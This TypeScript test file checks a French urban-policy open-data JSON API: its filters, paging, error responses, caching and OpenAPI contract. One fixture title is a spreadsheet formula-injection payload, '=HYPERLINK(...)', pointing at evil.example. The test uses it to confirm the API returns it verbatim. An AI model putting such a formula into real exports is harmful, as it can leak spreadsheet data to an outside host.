// The read-only JSON API under /api/v1 and its OpenAPI description.
// ajv comes with Fastify (its validator); the 2020-12 build reads OpenAPI 3.1 schemas.
import { Ajv2020 } from "ajv/dist/2020.js";
import type { LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestWorld } from "../../../test/helpers.js";
import type { ActionRecord, PlaceRecord } from "./present.js";
import { createOpenDataWorld } from "./test-data.js";

let w: TestWorld;
/** What a save in the policy back office drops from the page cache. */
const POLICY_TAGS = ["policy", "neighbourhoods", "opendata"];
const get = (url: string) => w.app.inject({ url });

// The answers' shapes as these tests read them (the OpenAPI document, checked below, is the contract).
interface Paging {
  page: number;
  par_page: number;
  total: number;
  pages: number;
}
interface PlaceList {
  data: Array<PlaceRecord & { geometrie?: { type: string } | null }>;
  total: number;
}
interface ActionList {
  data: ActionRecord[];
  pagination: Paging;
}
interface ActionResponse {
  data: ActionRecord;
}
interface IndicatorList {
  data: unknown[];
  pagination: Paging;
}
interface Problem {
  status: number;
  title: string;
  "invalid-params"?: Array<{ name: string; reason: string }>;
}
interface OpenApiDoc {
  openapi: string;
  servers: unknown;
  paths: Record<string, { get: { responses: Record<string, unknown>; parameters?: Array<{ name: string; description?: string }> } }>;
  components: unknown;
}

/** The parsed body, read as T: no check here, the assertions that follow are the checks. */
const json = <T = unknown>(res: LightMyRequestResponse) => JSON.parse(res.body) as T;
const slugs = async (url: string) => {
  const res = await get(url);
  expect(res.statusCode, url).toBe(200);
  return json<ActionList | PlaceList>(res)
    .data.map((a) => a.slug)
    .sort();
};

beforeAll(async () => {
  w = await createOpenDataWorld();
});
afterAll(async () => w?.close());

describe("GET /api/v1/...", () => {
  it("answers JSON, cacheable and readable from any origin", async () => {
    for (const url of [
      "/api/v1/qpv",
      "/api/v1/quartiers",
      "/api/v1/contrats",
      "/api/v1/actions",
      "/api/v1/actions/action-formule",
      "/api/v1/indicateurs",
      "/api/v1/openapi.json",
    ]) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(200);
      expect(res.headers["content-type"], url).toBe("application/json; charset=utf-8");
      expect(res.headers["access-control-allow-origin"], url).toBe("*");
      expect(res.headers["cache-control"], url).toBe("public, max-age=300");
      expect(res.headers["set-cookie"], url).toBeUndefined();
    }
  });

  it("lists QPV and quartiers, with perimeters on request", async () => {
    const qpv = json<PlaceList>(await get("/api/v1/qpv"));
    expect(qpv.total).toBe(2);
    expect(qpv.data.find((p) => p.slug === "secteur-ouest")).toMatchObject({
      code: "QN05901M",
      type: "qpv",
      population: 8200,
      communes: ["59350"],
      perimetre_disponible: true,
    });
    expect(qpv.data[0]).not.toHaveProperty("geometrie");
    const withGeometry = json<PlaceList>(await get("/api/v1/qpv?geometrie=true"));
    expect(withGeometry.data.find((p) => p.slug === "secteur-ouest")?.geometrie?.type).toBe("Polygon");
    expect(withGeometry.data.find((p) => p.slug === "secteur-nord")?.geometrie).toBeNull();
    expect(await slugs("/api/v1/quartiers")).toEqual(["centre", "hellemmes"]);
  });

  it("filters actions like the HTML list", async () => {
    expect(await slugs("/api/v1/actions")).toEqual(["action-a-venir", "action-formule", "action-terminee"]);
    expect(await slugs("/api/v1/actions?priorite=sante-od")).toEqual(["action-a-venir", "action-terminee"]);
    expect(await slugs("/api/v1/actions?quartier=secteur-ouest")).toEqual(["action-formule"]);
    expect(await slugs("/api/v1/actions?statut=completed")).toEqual(["action-terminee"]);
    expect(await slugs("/api/v1/actions?organisation=mission-locale-od")).toEqual(["action-a-venir", "action-formule"]);
    expect(await slugs("/api/v1/actions?financeur=caf")).toEqual(["action-terminee"]);
    expect(await slugs("/api/v1/actions?annee=2020")).toEqual(["action-terminee"]);
    expect(await slugs("/api/v1/actions?priorite=sante-od&statut=planned")).toEqual(["action-a-venir"]);
    expect(await slugs("/api/v1/actions?quartier=inconnu")).toEqual([]);
  });

  it("pages through actions", async () => {
    const first = json<ActionList>(await get("/api/v1/actions?par_page=2"));
    expect(first.pagination).toEqual({ page: 1, par_page: 2, total: 3, pages: 2 });
    const second = json<ActionList>(await get("/api/v1/actions?par_page=2&page=2"));
    expect(second.data).toHaveLength(1);
    const seen = [...first.data, ...second.data].map((a) => a.slug).sort();
    expect(seen).toEqual(["action-a-venir", "action-formule", "action-terminee"]);
    expect(json<ActionList>(await get("/api/v1/actions?par_page=2&page=3")).data).toEqual([]);
    expect(json<ActionList>(await get("/api/v1/actions")).pagination.par_page).toBe(20);
  });

  it("returns one action with funding lines, milestones, partners and places", async () => {
    const { data } = json<ActionResponse>(await get("/api/v1/actions/action-formule"));
    expect(data).toMatchObject({
      slug: "action-formule",
      titre: '=HYPERLINK("http://evil.example/?"&A1)', // JSON is data, not a spreadsheet: kept as is
      statut: "in_progress",
      avancement: 40,
      porteur: { slug: "centre-social-od", nom: "Centre social" },
      partenaires: [
        { slug: "bailleur-od", nom: "Bailleur, Habitat" },
        { slug: "mission-locale-od", nom: "Mission locale" },
      ],
      financement_total: 20000.5,
      financements: [
        { financeur: "etat", annee: 2024, montant: 12000.5 },
        { financeur: "metropole", annee: 2025, montant: 8000 },
      ],
      etapes: [{ date: "2025-03-01", titre: "Lancement", realisee: true }],
      exemple: true,
      url: "https://portail.test/politique-de-la-ville/actions/action-formule",
    });
    expect(data.lieux.map((l) => l.code ?? l.slug).sort()).toEqual(["QN05901M", "centre"]);
  });

  it("filters indicators by metric and territory", async () => {
    const all = json<IndicatorList>(await get("/api/v1/indicateurs"));
    expect(all.pagination.total).toBe(3);
    const poverty = json<IndicatorList>(await get("/api/v1/indicateurs?metric=taux_pauvrete&territoire=QN05901M"));
    expect(poverty.data).toEqual([
      {
        metric: "taux_pauvrete",
        libelle: "Taux de pauvreté",
        type_territoire: "qpv",
        code_territoire: "QN05901M",
        nom_territoire: "Secteur Ouest",
        annee: 2021,
        valeur: 42.5,
        unite: "%",
        source: "INSEE",
      },
    ]);
  });
});

describe("API errors", () => {
  it("answers 404 with a French problem for an unknown action or path", async () => {
    for (const url of ["/api/v1/actions/action-inconnue", "/api/v1/inconnu", "/api/v1/actions/a/b"]) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(404);
      expect(res.headers["content-type"], url).toBe("application/problem+json; charset=utf-8");
      expect(json(res), url).toMatchObject({ status: 404, title: "Page introuvable" });
    }
    // Unknown paths are answered by the content module's catch-all, outside this API's scope.
    expect((await get("/api/v1/actions/action-inconnue")).headers["access-control-allow-origin"]).toBe("*");
  });

  it("answers 400 naming the parameter for a bad value, a repeated value or an unknown parameter", async () => {
    const cases: Array<[string, string, RegExp]> = [
      ["/api/v1/actions?par_page=1000", "par_page", /inférieur ou égal à 100/],
      ["/api/v1/actions?par_page=0", "par_page", /supérieur ou égal à 1/],
      ["/api/v1/actions?inconnu=1", "inconnu", /paramètre inconnu/],
      ["/api/v1/actions?statuts=completed", "statuts", /paramètre inconnu/],
      ["/api/v1/actions?statut=fini", "statut", /valeurs possibles : planned, in_progress/],
      ["/api/v1/actions?annee=deux-mille", "annee", /nombre entier/],
      ["/api/v1/actions?page=1&page=2", "page", /nombre entier/],
      ["/api/v1/actions?quartier=Pas%20un%20slug", "quartier", /format invalide/],
      ["/api/v1/qpv?geometrie=oui", "geometrie", /true ou false/],
      ["/api/v1/indicateurs?metric=x&ville=lille", "ville", /paramètre inconnu/],
      ["/api/v1/contrats?annee=2024", "annee", /paramètre inconnu/],
      ["/api/v1/actions/action-formule?v=2", "v", /paramètre inconnu/],
      ["/api/v1/actions/PAS_UN_SLUG", "slug", /format invalide/],
    ];
    for (const [url, name, reason] of cases) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.headers["content-type"], url).toBe("application/problem+json; charset=utf-8");
      expect(res.headers["access-control-allow-origin"], url).toBe("*");
      const body = json<Problem>(res);
      expect(body, url).toMatchObject({ type: "about:blank", title: "Demande incorrecte", status: 400 });
      expect(body["invalid-params"], url).toContainEqual({ name, reason: expect.stringMatching(reason) });
    }
  });

  it("answers from a cache dropped by any policy change, with an ETag that gives 304", async () => {
    for (const url of ["/api/v1/actions", "/api/v1/actions/action-formule", "/api/v1/contrats", "/api/v1/qpv", "/api/v1/indicateurs"]) {
      const first = await get(url);
      const etag = first.headers.etag as string;
      expect(etag, url).toMatch(/^W\/"/);
      const again = await get(url);
      expect(again.body, url).toBe(first.body);
      expect(again.headers.etag, url).toBe(etag);
      const notModified = await w.app.inject({ url, headers: { "if-none-match": etag } });
      expect(notModified.statusCode, url).toBe(304);
      expect(notModified.body, url).toBe("");
      expect(notModified.headers["access-control-allow-origin"], url).toBe("*");
    }
    // The policy back office saves, then drops these tags: the next answer is the new one.
    const before = await get("/api/v1/actions/action-formule");
    await w.db.updateTable("actions").set({ title: "Titre corrigé par l’équipe" }).where("slug", "=", "action-formule").execute();
    expect((await get("/api/v1/actions/action-formule")).body).toBe(before.body); // still cached
    w.pageCache.invalidateTags(POLICY_TAGS);
    const after = await get("/api/v1/actions/action-formule");
    expect(json<ActionResponse>(after).data.titre).toBe("Titre corrigé par l’équipe");
    expect(after.headers.etag).not.toBe(before.headers.etag);
    expect((await w.app.inject({ url: "/api/v1/actions/action-formule", headers: { "if-none-match": before.headers.etag as string } })).statusCode).toBe(200);
    await w.db
      .updateTable("actions")
      .set({ title: json<ActionResponse>(before).data.titre })
      .where("slug", "=", "action-formule")
      .execute();
    w.pageCache.invalidateTags(POLICY_TAGS);
  });

  it("leaves CORS off the rest of the site", async () => {
    for (const url of ["/donnees", "/donnees/qpv.csv", "/politique-de-la-ville"]) {
      expect((await get(url)).headers["access-control-allow-origin"], url).toBeUndefined();
    }
  });
});

/** Full paths from Fastify's route tree (printRoutes draws one segment per line, indented 4 per level). */
function servedPaths(tree: string): string[] {
  const stack: string[] = [];
  const paths: string[] = [];
  for (const line of tree.split("\n")) {
    const m = /^((?:[│ ] {3})*)[├└]── (.+?)(?: \(([A-Z, ]+)\))?$/.exec(line);
    if (!m) continue;
    const depth = m[1]!.length / 4;
    stack.length = depth;
    stack.push(m[2]!);
    if (m[3]?.includes("GET")) paths.push(stack.join(""));
  }
  return paths;
}

describe("/api/v1/openapi.json", () => {
  const doc = () => get("/api/v1/openapi.json").then((res) => json<OpenApiDoc>(res));

  it("is an OpenAPI 3.1 document describing every API path the app serves", async () => {
    const d = await doc();
    expect(d.openapi).toBe("3.1.0");
    expect(d.servers).toEqual([{ url: "https://portail.test/api/v1" }]);
    const served = servedPaths(w.app.printRoutes({ commonPrefix: false }))
      .filter((p) => p.startsWith("/api/v1/"))
      .map((p) => p.slice("/api/v1".length).replace(/:(\w+)/g, "{$1}"));
    expect(served.length).toBeGreaterThanOrEqual(6);
    expect(Object.keys(d.paths).sort()).toEqual([...new Set(served)].sort());
    for (const [path, item] of Object.entries(d.paths)) {
      expect(item.get.responses["200"], path).toBeDefined();
      for (const p of item.get.parameters ?? []) expect(p.description, `${path} ${p.name}`).toBeTruthy();
    }
  });

  it("matches real responses (every response schema is closed: no undocumented field)", async () => {
    const d = await doc();
    const ajv = new Ajv2020({ strict: true, validateFormats: false, allErrors: true });
    ajv.addKeyword("components"); // the OpenAPI wrapper, so that "#/components/schemas/X" refs resolve as written
    ajv.addSchema({ $id: "openapi", components: d.components });
    const check = async (url: string, status: number, name: string) => {
      const res = await get(url);
      expect(res.statusCode, url).toBe(status);
      const valid = ajv.validate({ $ref: `openapi#/components/schemas/${name}` }, json(res));
      expect(ajv.errors ?? [], url).toEqual([]);
      expect(valid, url).toBe(true);
    };
    await check("/api/v1/qpv", 200, "PlaceList");
    await check("/api/v1/qpv?geometrie=true", 200, "PlaceList");
    await check("/api/v1/quartiers?geometrie=true", 200, "PlaceList");
    await check("/api/v1/contrats", 200, "ContractList");
    await check("/api/v1/actions", 200, "ActionList");
    await check("/api/v1/actions/action-formule", 200, "ActionResponse");
    await check("/api/v1/actions/action-a-venir", 200, "ActionResponse");
    await check("/api/v1/indicateurs", 200, "IndicatorList");
    await check("/api/v1/actions?par_page=1000", 400, "Problem");
    await check("/api/v1/actions/inconnue", 404, "Problem");
  });

  it("is explained in French on /donnees/api", async () => {
    const res = await get("/donnees/api");
    expect(res.statusCode).toBe(200);
    for (const text of [
      "API de données ouvertes",
      "https://portail.test/api/v1",
      "GET /api/v1/actions",
      "par_page",
      "Access-Control-Allow-Origin",
      "invalid-params",
      'href="/api/v1/openapi.json"',
    ]) {
      expect(res.body, text).toContain(text);
    }
    expect(res.body).not.toMatch(/<script[^>]+src="https?:/); // no third-party script
  });
});
